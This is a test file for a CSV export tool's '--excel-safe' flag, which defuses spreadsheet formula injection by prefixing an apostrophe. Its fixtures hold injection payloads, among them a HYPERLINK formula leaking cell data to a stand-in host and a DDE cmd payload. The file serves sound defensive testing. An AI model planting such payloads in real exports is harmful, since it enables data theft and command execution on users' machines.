/**
 * Issue #15 item 6: `snapshot --excel-safe` writes Excel-safe copies of the CSV files (a cell
 * starting with `=`, `+`, `-`, `@`, tab or CR gets a leading `'`), while the research files stay
 * exact: the same bytes as a snapshot written without the flag. Checked cell by cell.
 */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SqliteArchive as Archive } from '../../src/archive/db.js';
import { crawlRun, freshArchive, message, MINSHENG, reply, store } from '../publish/archive-builder.js';
import { runCommand } from '../publish/cli-harness.js';
import { readCsv } from '../publish/snapshot-readers.js';
import { tempDir } from '../helpers/tmp.js';

const HOSTILE_TITLES = [
  '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1,2)',
  '\t制表符开头的标题',
  '\r回车开头的标题',
];

let archive: Archive;
let dir: string;

beforeAll(async () => {
  archive = await freshArchive();
  const now = '2019-05-20T10:00:00+08:00';
  const run = await crawlRun(archive, '2019-05-20T09:00:00+08:00', now);
  for (const [i, title] of HOSTILE_TITLES.entries()) {
    await store(archive, MINSHENG, { messages: [message(`90${i}`, { title, body: i === 0 ? '=1+1' : '普通正文' })] }, now, run);
  }
  await store(
    archive,
    MINSHENG,
    {
      messages: [message('910', { title: '普通标题', status: 'replied', statusRaw: '已回复', replyCount: 1 })],
      replies: [reply('910', 'r1', { body: '@网友 您好，已处理。' })],
    },
    now,
    run,
  );
  dir = tempDir();
});

afterAll(async () => {
  await archive.close();
});

/** What an Excel-safe copy must show for a cell, by the rule of CONTRACT.md section 3. */
function expectedCell(v: string): string {
  const first = v.charAt(0);
  const isNumber = /^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$/.test(v);
  return ['=', '+', '-', '@', '\t', '\r'].includes(first) && !isNumber ? `'${v}` : v;
}

describe('snapshot --excel-safe (#15 item 6)', () => {
  it('writes Excel-safe copies, cell by cell, and leaves the research files exact', async () => {
    const plain = await runCommand(archive.file, '--out', path.join(dir, 'plain'), '--date', '2019-05-21');
    expect(plain.status, plain.stderr).toBe(0);
    const safe = await runCommand(archive.file, '--out', path.join(dir, 'safe'), '--date', '2019-05-21', '--excel-safe');
    expect(safe.status, safe.stderr).toBe(0);
    const plainDir = path.join(dir, 'plain', '2019-05-21');
    const safeDir = path.join(dir, 'safe', '2019-05-21');
    expect(existsSync(path.join(plainDir, 'excel-safe'))).toBe(false);

    // The research files: byte for byte those of the snapshot without the flag.
    const files = readdirSync(plainDir).filter((f) => f !== 'excel-safe').sort();
    for (const f of files) expect(readFileSync(path.join(safeDir, f)).equals(readFileSync(path.join(plainDir, f))), f).toBe(true);
    const csvs = files.filter((f) => f.endsWith('.csv'));
    expect(csvs).toContain('messages.csv');
    expect(readdirSync(path.join(safeDir, 'excel-safe')).sort()).toEqual(csvs);

    // Every cell of every copy against its original.
    let changed = 0;
    for (const f of csvs) {
      const orig = readCsv(path.join(plainDir, f));
      const copy = readCsv(path.join(safeDir, 'excel-safe', f));
      expect(copy.length, f).toBe(orig.length);
      orig.forEach((row, r) =>
        row.forEach((cell, c) => {
          expect(copy[r]![c], `${f} row ${r} column ${c}`).toBe(expectedCell(cell));
          if (copy[r]![c] !== cell) changed++;
        }),
      );
    }
    expect(changed).toBeGreaterThanOrEqual(HOSTILE_TITLES.length + 2);

    // The hostile titles, by hand: as published in the research file, and defused in the copy.
    const header = readCsv(path.join(plainDir, 'messages.csv'))[0]!;
    const titleAt = header.indexOf('title');
    const bodyAt = header.indexOf('body');
    const idAt = header.indexOf('message_id');
    const rowsOf = (file: string) => new Map(readCsv(file).slice(1).map((r) => [r[idAt]!, r]));
    const research = rowsOf(path.join(plainDir, 'messages.csv'));
    const copy = rowsOf(path.join(safeDir, 'excel-safe', 'messages.csv'));
    expect(research.get('cnhubei-minsheng:900')![titleAt]).toBe('=HYPERLINK("http://evil.example/?"&A1,"点此查看")');
    expect(copy.get('cnhubei-minsheng:900')![titleAt]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"点此查看")');
    expect(copy.get('cnhubei-minsheng:900')![bodyAt]).toBe("'=1+1");
    expect(copy.get('cnhubei-minsheng:901')![titleAt]).toBe("'+1+cmd|' /C calc'!A0");
    expect(copy.get('cnhubei-minsheng:902')![titleAt]).toBe("'-2+3");
    expect(copy.get('cnhubei-minsheng:903')![titleAt]).toBe("'@SUM(1,2)");
    expect(copy.get('cnhubei-minsheng:910')![titleAt]).toBe('普通标题');
    const replies = readCsv(path.join(safeDir, 'excel-safe', 'replies.csv'));
    const replyBody = replies[0]!.indexOf('body');
    expect(replies.slice(1).map((r) => r[replyBody])).toEqual(["'@网友 您好，已处理。"]);
  });
});
